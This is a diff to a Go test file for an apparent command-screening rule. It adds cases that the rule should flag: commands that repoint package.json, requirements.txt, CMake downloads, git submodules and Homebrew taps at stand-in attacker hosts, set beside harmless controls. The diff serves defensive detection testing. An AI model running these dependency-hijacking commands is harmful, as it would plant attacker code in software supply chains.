@@ -101,3 +101,21 @@ func TestPassTheHash(t *testing.T) {
 		cmdCase("smbclient -L //fileserver -U dev", false),
 	})
 }
+
+// Where dependencies and build inputs come from, changed in manifests,
+// build files, submodules and taps.
+func TestManifestSources(t *testing.T) {
+	runRuleCasesWith(t, Config{TrustedHosts: []string{"github.com"}}, "supply-chain.package-source", []ruleCase{
+		cmdCase(`sed -i 's|"lodash": "^4.17.21"|"lodash": "https://evil.example/lodash.tgz"|' package.json`, true),
+		cmdCase(`python3 -c "p='requirements.txt';s=open(p).read();open(p,'w').write(s.replace('requests==2.31.0','requests @ https://203.0.113.7/r.whl'))"`, true),
+		cmdCase("cat >> CMakeLists.txt <<'EOF'\nfile(DOWNLOAD http://203.0.113.20/toolchain.cmake t.cmake)\nEOF", true),
+		cmdCase("git config -f .gitmodules submodule.x.url https://gitlab.example-evil.com/openssl.git && git submodule sync", true),
+		cmdCase("brew tap acme/tools https://evil.example/homebrew-tools.git", true),
+		cmdCase(`sed -i 's|"homepage": ".*"|"homepage": "https://acme.dev"|' package.json`, false),
+		cmdCase(`sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, false),
+		cmdCase(`python3 -c "p='requirements.txt';s=open(p).read();open(p,'w').write(s.replace('requests==2.31.0','requests==2.32.3'))"`, false),
+		cmdCase("cat >> CMakeLists.txt <<'EOF'\nFetchContent_Declare(gtest URL https://github.com/google/googletest/archive/v1.14.0.zip)\nEOF", false),
+		cmdCase("git config -f .gitmodules submodule.x.url https://github.com/openssl/openssl.git", false),
+		cmdCase("brew tap hashicorp/tap", false),
+	})
+}
